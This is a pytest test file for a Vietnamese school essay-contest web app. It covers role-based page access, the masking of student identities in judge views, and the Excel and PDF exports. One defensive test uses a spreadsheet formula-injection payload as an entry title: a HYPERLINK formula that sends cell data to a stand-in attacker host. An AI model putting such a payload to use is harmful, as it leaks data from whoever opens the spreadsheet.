"""Every page: one allowed and one forbidden request, and what each shows."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from contests.essay import services, similarity
from contests.essay.models import (
    EntryStatus,
    EssayContest,
    EssayRound,
    FlagStatus,
    ReferenceEssay,
)
from core.accounts.models import Role
from core.audit import history
from core.schools.models import SchoolLevel
from tests.conftest import T0
from tests.contests.essay.conftest import image_bytes, words

pytestmark = pytest.mark.usefixtures("frozen")


@pytest.fixture
def organizer(make):
    return make.organizer()


@pytest.fixture
def copied_pair(make, make_round, make_entry):
    """A closed round with two near-identical entries, checked."""
    round_ = make_round(opens_at=T0 - timedelta(days=5), closes_at=T0 - timedelta(days=1))
    text = words(60) + " Đây là câu chuyện có thật của em về lòng tốt trên mạng."
    a = make_entry(round_, body=text)
    b = make_entry(round_, body=text.replace("câu chuyện", "chuyện"))
    similarity.check_round(round_=round_, now=T0)
    return round_, a, b


# --- students ---------------------------------------------------------------------------------


def test_index_student_sees_open_round(client, login, student, open_round):
    login(student)

    response = client.get("/essay")

    assert response.status_code == 200
    assert f"/essay/rounds/{open_round.id}" in response.get_data(as_text=True)


def test_index_organizer_forbidden(client, login, organizer):
    login(organizer)

    assert client.get("/essay").status_code == 403


def test_write_page_renders_editor_with_draft(client, login, student, entry):
    services.save_draft(entry=entry, title="Tiêu đề", body="Đoạn <b>một</b>", seq=1, now=T0)
    login(student)

    response = client.get(f"/essay/rounds/{entry.round_id}")

    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert 'id="essay-editor"' in html
    assert "Đoạn &lt;b&gt;một&lt;/b&gt;" in html
    assert "<b>một</b>" not in html


def test_write_page_of_a_submitted_entry_is_read_only_before_any_script_runs(
    client, login, student, entry
):
    services.save_draft(entry=entry, title="Tiêu đề", body=words(20), seq=1, now=T0)
    login(student)
    editable = client.get(f"/essay/rounds/{entry.round_id}").get_data(as_text=True)
    services.submit_entry(entry=entry, now=T0)

    html = client.get(f"/essay/rounds/{entry.round_id}").get_data(as_text=True)

    assert "readonly" not in editable
    assert html.count(" readonly") == 2  # title and body
    assert " disabled" in submit_button(html)


def submit_button(html: str) -> str:
    start = html.index('<button id="essay-submit"')
    return html[start : html.index(">", start)]


def test_write_page_below_minimum_words_holds_submit_before_any_script_runs(
    client, login, student, entry
):
    services.save_draft(entry=entry, title="Tiêu đề", body=words(9), seq=1, now=T0)
    login(student)
    short = client.get(f"/essay/rounds/{entry.round_id}").get_data(as_text=True)
    services.save_draft(entry=entry, title="Tiêu đề", body=words(10), seq=2, now=T0)

    enough = client.get(f"/essay/rounds/{entry.round_id}").get_data(as_text=True)

    assert " disabled" in submit_button(short)
    assert "Cần ít nhất 10 chữ mới nộp được bài." in short
    assert " disabled" not in submit_button(enough)


def test_write_page_ineligible_student_forbidden(client, login, student, make_round):
    round_ = make_round(school_levels=[SchoolLevel.TH.value])
    login(student)

    assert client.get(f"/essay/rounds/{round_.id}").status_code == 403


def _masked_article(html: str) -> str:
    start = html.index('<article class="masked-entry"')
    return html[start : html.index("</article>", start)]


def test_preview_shows_the_authors_draft_exactly_as_judges_see_it(
    client, login, organizer, make, make_round
):
    round_ = make_round(max_words=1000)
    school = make.school(name="Trường THCS Dương Xá", code="THCS-DX")
    author = make.student(make.school_class(school, name="6A1"), full_name="Hoàng Khánh Ngân")
    entry = services.start_entry(round_=round_, student=author, now=T0)
    body = "Em la Hoang Khanh Ngan, hoc lop 6a1 thcs dx. Goi em qua 0912 345 678. " + words(20)
    services.save_draft(entry=entry, title="Bài của NGÂN", body=body, seq=1, now=T0)
    services.upload_photo(entry=entry, data=image_bytes(), caption="Ngân ở THCS-DX", now=T0)
    login(author)

    editor = client.get(f"/essay/rounds/{round_.id}").get_data(as_text=True)
    response = client.get(f"/essay/rounds/{round_.id}/judge-view")

    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert f'href="/essay/rounds/{round_.id}/judge-view"' in editor
    assert "Bài của [tên]" in html
    assert "Em la [tên], hoc lop [lớp] [trường]. Goi em qua [liên hệ]." in html
    assert "[tên] ở [trường]" in html
    for secret in ("Ngân", "Ngan", "NGÂN", "6a1", "dx", "0912"):
        assert secret not in _masked_article(html), secret
    login(organizer)
    judges = client.get(f"/manage/essay/entries/{entry.id}/judge-view").get_data(as_text=True)
    assert _masked_article(html) == _masked_article(judges)


def test_preview_before_the_first_save_says_so(client, login, student, open_round):
    login(student)

    response = client.get(f"/essay/rounds/{open_round.id}/judge-view")

    assert response.status_code == 200
    assert "Chưa có gì được lưu." in response.get_data(as_text=True)
    assert "masked-entry" not in response.get_data(as_text=True)


def test_preview_organizer_forbidden(client, login, organizer, open_round):
    login(organizer)

    assert client.get(f"/essay/rounds/{open_round.id}/judge-view").status_code == 403


def test_preview_ineligible_student_forbidden(client, login, student, make_round):
    round_ = make_round(school_levels=[SchoolLevel.TH.value])
    login(student)

    assert client.get(f"/essay/rounds/{round_.id}/judge-view").status_code == 403


def test_photo_served_to_author(client, login, student, entry):
    photo = services.upload_photo(entry=entry, data=image_bytes(), now=T0)
    login(student)

    response = client.get(f"/essay/photos/{photo.id}")

    assert response.status_code == 200
    assert response.mimetype == "image/jpeg"


def test_photo_hidden_from_other_student(client, login, make, entry):
    photo = services.upload_photo(entry=entry, data=image_bytes(), now=T0)
    login(make.student())

    assert client.get(f"/essay/photos/{photo.id}").status_code == 404


def test_photo_hidden_from_judge(client, login, make, entry):
    photo = services.upload_photo(entry=entry, data=image_bytes(), now=T0)
    login(make.user(None, Role.JUDGE))

    assert client.get(f"/essay/photos/{photo.id}").status_code == 404


# --- organizers -------------------------------------------------------------------------------


def test_manage_organizer_creates_contest(db, client, login, organizer, contest):
    login(organizer)

    response = client.post(
        "/manage/essay", data={"campaign_id": contest.campaign_id, "title": "Cuộc thi mới"}
    )

    assert response.status_code == 302
    created = db.session.scalar(sa.select(EssayContest).where(EssayContest.title == "Cuộc thi mới"))
    assert created.campaign_id == contest.campaign_id


def test_manage_student_forbidden(client, login, student):
    login(student)

    assert client.get("/manage/essay").status_code == 403


def test_contest_page_organizer_adds_reference(db, client, login, organizer, contest):
    login(organizer)

    response = client.post(
        f"/manage/essay/contests/{contest.id}",
        data={"title": "Bài mẫu", "source": "mạng", "body": words(40)},
    )

    assert response.status_code == 302
    assert db.session.scalar(sa.select(ReferenceEssay.title)) == "Bài mẫu"


def test_contest_page_coordinator_forbidden(client, login, make, contest):
    login(make.coordinator(make.school()))

    assert client.get(f"/manage/essay/contests/{contest.id}").status_code == 403


def test_new_round_organizer_creates_round_in_local_time(db, client, login, organizer, contest):
    login(organizer)

    response = client.post(
        f"/manage/essay/contests/{contest.id}/rounds/new",
        data={
            "stage": 1,
            "name": "Vòng trường",
            "opens_at": "2026-12-01T07:00",
            "closes_at": "2026-12-20T21:00",
            "min_words": 300,
            "max_words": 1000,
            "max_photos": 2,
            "school_levels": ["THCS"],
            "grades": "8, 9",
            "allow_withdraw": "y",
        },
    )

    assert response.status_code == 302
    round_ = db.session.scalar(sa.select(EssayRound).where(EssayRound.contest_id == contest.id))
    assert round_.opens_at == datetime(2026, 12, 1, 0, 0, tzinfo=UTC)
    assert round_.closes_at.hour == 14
    assert (round_.school_levels, round_.grades, round_.max_photos) == (["THCS"], [8, 9], 2)
    assert [a.action for a in history("essay_round", round_.id)] == ["essay.round_save"]
    assert round_.submit_drafts_at_close is False


def test_edit_round_organizer_chooses_to_submit_last_drafts(client, login, organizer, open_round):
    login(organizer)
    page = client.get(f"/manage/essay/rounds/{open_round.id}/edit").get_data(as_text=True)

    response = client.post(
        f"/manage/essay/rounds/{open_round.id}/edit",
        data={
            "stage": 1,
            "name": open_round.name,
            "opens_at": "2026-12-01T07:00",
            "closes_at": "2026-12-20T21:00",
            "min_words": 10,
            "max_words": 100,
            "max_photos": 2,
            "submit_drafts_at_close": "y",
        },
    )

    assert 'name="submit_drafts_at_close"' in page
    assert response.status_code == 302
    assert open_round.submit_drafts_at_close is True


def test_new_round_window_backwards_is_refused(client, login, organizer, contest):
    login(organizer)

    response = client.post(
        f"/manage/essay/contests/{contest.id}/rounds/new",
        data={
            "stage": 1,
            "name": "Sai",
            "opens_at": "2026-12-20T07:00",
            "closes_at": "2026-12-01T07:00",
            "max_words": 1000,
        },
    )

    assert response.status_code == 200
    assert "Vòng thi phải đóng sau khi mở." in response.get_data(as_text=True)


def test_new_round_student_forbidden(client, login, student, contest):
    login(student)

    assert client.get(f"/manage/essay/contests/{contest.id}/rounds/new").status_code == 403


def test_edit_round_organizer_sees_form(client, login, organizer, open_round):
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{open_round.id}/edit")

    assert response.status_code == 200
    assert 'value="Vòng trường"' in response.get_data(as_text=True)


def test_edit_round_judge_forbidden(client, login, make, open_round):
    login(make.user(None, Role.JUDGE))

    assert client.get(f"/manage/essay/rounds/{open_round.id}/edit").status_code == 403


def test_round_dashboard_shows_counts_and_queue(client, login, organizer, copied_pair):
    round_, a, _b = copied_pair
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{round_.id}")

    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert a.code in html
    assert "/manage/essay/flags/" in html


def test_round_dashboard_coordinator_forbidden(client, login, make, open_round):
    login(make.coordinator(make.school()))

    assert client.get(f"/manage/essay/rounds/{open_round.id}").status_code == 403


def test_run_similarity_organizer(db, client, login, organizer, open_round):
    login(organizer)

    response = client.post(f"/manage/essay/rounds/{open_round.id}/similarity")

    assert response.status_code == 302
    assert open_round.similarity_checked_at == T0


def test_run_similarity_student_forbidden(client, login, student, open_round):
    login(student)

    assert client.post(f"/manage/essay/rounds/{open_round.id}/similarity").status_code == 403
    assert open_round.similarity_checked_at is None


def test_flag_page_side_by_side_and_disqualify(client, login, organizer, copied_pair):
    round_, a, b = copied_pair
    flag = similarity.open_flags(round_)[0]
    login(organizer)

    page = client.get(f"/manage/essay/flags/{flag.id}")
    response = client.post(
        f"/manage/essay/flags/{flag.id}",
        data={"decision": "disqualify_other", "reason": "Chép gần nguyên văn"},
    )

    assert page.status_code == 200
    assert "lòng tốt trên mạng" in page.get_data(as_text=True)
    assert response.status_code == 302
    assert flag.status == FlagStatus.DISQUALIFIED
    assert a.status == EntryStatus.SUBMITTED
    assert b.status == EntryStatus.DISQUALIFIED
    assert b.disqualified_reason == "Chép gần nguyên văn"
    assert [e.action for e in history("essay_similarity_flag", flag.id)] == [
        "essay.flag_disqualified"
    ]


def test_flag_page_judge_forbidden(client, login, make, copied_pair):
    flag = similarity.open_flags(copied_pair[0])[0]
    login(make.user(None, Role.JUDGE))

    assert client.get(f"/manage/essay/flags/{flag.id}").status_code == 403


def test_disqualify_organizer_with_reason(client, login, organizer, make_entry, open_round):
    entry = make_entry(open_round)
    login(organizer)

    response = client.post(
        f"/manage/essay/entries/{entry.id}/disqualify", data={"reason": "Sai chủ đề"}
    )

    assert response.status_code == 302
    assert entry.status == EntryStatus.DISQUALIFIED
    assert entry.disqualified_reason == "Sai chủ đề"


def test_disqualify_coordinator_forbidden(client, login, make, make_entry, open_round):
    entry = make_entry(open_round)
    login(make.coordinator(make.school()))

    response = client.post(f"/manage/essay/entries/{entry.id}/disqualify", data={"reason": "x"})

    assert response.status_code == 403
    assert entry.status == EntryStatus.SUBMITTED


def test_export_xlsx_organizer(client, login, organizer, make, make_entry, open_round):
    author = make.student(full_name="Lê Văn Tác Giả")
    entry = make_entry(open_round, author)
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{open_round.id}/entries.xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Mã bài", "Họ và tên", "Trường")
    assert rows[1][:2] == (entry.code, "Lê Văn Tác Giả")
    assert rows[1][4] == "Đã nộp"


def test_export_xlsx_follows_english(client, login, db, organizer, make, make_entry, open_round):
    make_entry(open_round, make.student(full_name="Lê Văn Tác Giả"))
    organizer.locale = "en"
    db.session.flush()
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{open_round.id}/entries.xlsx")

    book = load_workbook(io.BytesIO(response.data))
    rows = list(book.active.iter_rows(values_only=True))
    assert book.sheetnames == ["Essay entries"]
    assert rows[0] == (
        "Entry code",
        "Full name",
        "School",
        "Class",
        "Entry status",
        "Title",
        "Words",
        "Number of photos",
        "Time submitted",
        "Name may be published (student)",
        "Name may be published (parent)",
        "Reason for disqualification",
    )
    assert rows[1][4] == "Submitted entry"


def test_export_xlsx_vietnamese_by_default(client, login, organizer, make, make_entry, open_round):
    make_entry(open_round, make.student(full_name="Lê Văn Tác Giả"))
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{open_round.id}/entries.xlsx")

    book = load_workbook(io.BytesIO(response.data))
    rows = list(book.active.iter_rows(values_only=True))
    assert book.sheetnames == ["Bài dự thi"]
    assert rows[0] == (
        "Mã bài",
        "Họ và tên",
        "Trường",
        "Lớp",
        "Trạng thái",
        "Tiêu đề",
        "Số chữ",
        "Số ảnh",
        "Nộp lúc",
        "Đồng ý công khai tên (HS)",
        "Đồng ý công khai tên (PH)",
        "Lý do loại",
    )


def test_export_xlsx_writes_a_formula_looking_title_as_text(
    client, login, organizer, make, make_entry, open_round
):
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
    make_entry(open_round, make.student(full_name="Lê Văn Tác Giả"), title=formula)
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{open_round.id}/entries.xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


def test_export_xlsx_student_forbidden(client, login, student, open_round):
    login(student)

    assert client.get(f"/manage/essay/rounds/{open_round.id}/entries.xlsx").status_code == 403


def test_export_pdf_organizer(client, login, organizer, make_entry, open_round):
    make_entry(open_round)
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{open_round.id}/anonymous.pdf")

    assert response.status_code == 200
    assert response.data.startswith(b"%PDF")


def test_export_pdf_judge_forbidden(client, login, make, open_round):
    login(make.user(None, Role.JUDGE))

    assert client.get(f"/manage/essay/rounds/{open_round.id}/anonymous.pdf").status_code == 403


# --- coordinators -----------------------------------------------------------------------------


def test_school_progress_coordinator_sees_who_submitted_not_text(
    client, login, make, make_entry, open_round
):
    school = make.school()
    cls = make.school_class(school)
    writer = make.student(cls, full_name="Đỗ Thị Viết")
    make.student(cls, full_name="Lê Văn Chưa")
    make_entry(open_round, writer, body=words(20) + " bímật")
    login(make.coordinator(school))

    response = client.get(f"/school/essay?round={open_round.id}")

    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Đỗ Thị Viết" in html
    assert "Lê Văn Chưa" in html
    assert "bímật" not in html


def test_school_progress_other_school_forbidden(client, login, make, open_round):
    mine, theirs = make.school(), make.school()
    login(make.coordinator(mine))

    response = client.get(f"/school/essay?school={theirs.id}&round={open_round.id}")

    assert response.status_code == 403


def test_school_progress_student_forbidden(client, login, student):
    login(student)

    assert client.get("/school/essay").status_code == 403


def test_round_dashboard_query_count_does_not_grow_with_entries(
    db, client, login, organizer, make_round, make_entry
):
    round_ = make_round()
    login(organizer)

    def queries() -> int:
        statements = []

        def count(conn, cursor, statement, *args):
            if not statement.lstrip().upper().startswith(("SAVEPOINT", "RELEASE", "ROLLBACK")):
                statements.append(statement)

        sa.event.listen(db.engine, "before_cursor_execute", count)
        try:
            assert client.get(f"/manage/essay/rounds/{round_.id}").status_code == 200
        finally:
            sa.event.remove(db.engine, "before_cursor_execute", count)
        return len(statements)

    for _ in range(2):
        make_entry(round_)
    few = queries()
    for _ in range(6):
        make_entry(round_)

    assert queries() == few


# --- everyone ---------------------------------------------------------------------------------


def test_contest_page_public_when_campaign_published(client, contest, open_round):
    response = client.get(f"/contests/essay/{contest.id}")

    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Kể lại một hành động đẹp." in html
    assert f"/essay/rounds/{open_round.id}" not in html


def test_contest_page_offers_writing_to_eligible_student(
    client, login, student, contest, open_round
):
    login(student)

    response = client.get(f"/contests/essay/{contest.id}")

    assert f"/essay/rounds/{open_round.id}" in response.get_data(as_text=True)


def test_contest_page_hidden_while_campaign_is_draft(db, client, contest):
    db.session.execute(
        sa.text("UPDATE campaign SET status = 'DRAFT' WHERE id = :id"), {"id": contest.campaign_id}
    )

    assert client.get(f"/contests/essay/{contest.id}").status_code == 404


def test_campaign_page_links_to_the_contest(client, contest):
    response = client.get("/campaigns/chien-dich-thu")

    assert f"/contests/essay/{contest.id}" in response.get_data(as_text=True)


def test_judge_preview_shows_masked_entry(client, login, organizer, make, make_round, make_entry):
    round_ = make_round(max_words=1000)
    school = make.school(name="Trường THCS Dương Xá")
    author = make.student(make.school_class(school, name="7A2"), full_name="Nguyễn Thị Mai")
    body = "Em là Nguyễn Thị Mai, học lớp 7A2. " + words(20)
    entry = make_entry(round_, author, body=body, submit=False)
    services.upload_photo(
        entry=entry, data=image_bytes(), caption="Bạn Mai ở THCS Dương Xá", now=T0
    )
    services.submit_entry(entry=entry, now=T0)
    login(organizer)

    response = client.get(f"/manage/essay/entries/{entry.id}/judge-view")

    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Em là [tên], học lớp [lớp]." in html
    assert "Bạn [tên] ở [trường]" in html
    assert "Nguyễn Thị Mai" not in html
    assert "Dương Xá" not in html


def test_judge_preview_judge_forbidden(client, login, make, make_entry, open_round):
    entry = make_entry(open_round)
    login(make.user(None, Role.JUDGE))

    assert client.get(f"/manage/essay/entries/{entry.id}/judge-view").status_code == 403


@pytest.mark.parametrize(
    ("locale", "submitted"), [("vi", "00:45 01/12/2026"), ("en", "Dec 1, 2026, 00:45")]
)
def test_export_xlsx_writes_the_time_the_readers_way_in_vietnam(
    client, login, organizer, make_entry, open_round, locale, submitted
):
    entry = make_entry(open_round)
    entry.submitted_at = datetime(2026, 11, 30, 17, 45, tzinfo=UTC)  # 00:45 on 1 December there
    organizer.locale = locale
    login(organizer)

    response = client.get(f"/manage/essay/rounds/{open_round.id}/entries.xlsx")

    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][8] == submitted
